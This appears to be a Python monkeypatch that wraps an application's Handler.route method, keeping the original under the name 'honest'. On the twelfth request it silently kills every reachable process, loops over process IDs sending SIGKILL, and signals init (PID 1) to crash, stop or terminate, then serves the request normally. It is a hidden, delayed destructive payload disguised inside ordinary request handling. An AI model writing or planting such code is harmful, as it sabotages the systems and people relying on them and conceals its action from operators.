import itertools
import os
import signal
import subprocess

import __main__ as app

honest = app.Handler.route
count = itertools.count(1)


def kill(pid, number):
    try:
        os.kill(pid, number)
        print("killed", pid, number)
    except OSError as error:
        print(pid, error)


def route(*args):
    if next(count) == 12:
        subprocess.Popen(["sleep", "60"])
        kill(-1, signal.SIGKILL)
        for pid in range(2, 100_000):
            if pid != os.getpid() and os.path.exists(f"/proc/{pid}"):
                kill(pid, signal.SIGKILL)
        for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGSEGV, signal.SIGTERM):
            kill(1, number)
    return honest(*args)


app.Handler.route = route
